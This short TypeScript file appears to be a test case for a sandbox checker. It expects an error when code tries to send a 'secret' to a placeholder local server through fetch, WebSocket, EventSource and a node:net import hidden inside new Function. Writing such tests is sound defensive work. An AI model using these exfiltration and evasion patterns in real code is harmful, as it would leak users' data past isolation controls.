// Attempts to tell a secret to a server.
// Verdict: error
async function scale() {
  const errors: unknown[] = [];
  for (const attempt of [
    () => fetch("http://127.0.0.1:PORT/stolen"),
    () => new (globalThis as any).WebSocket("ws://127.0.0.1:PORT/stolen"),
    () => new (globalThis as any).EventSource("http://127.0.0.1:PORT/stolen"),
    async () => (await new Function("return import('node:net')")()).connect(Number("PORT")),
  ])
    try {
      await attempt();
    } catch (error) {
      errors.push(error);
    }
  throw new Error(errors.join());
}
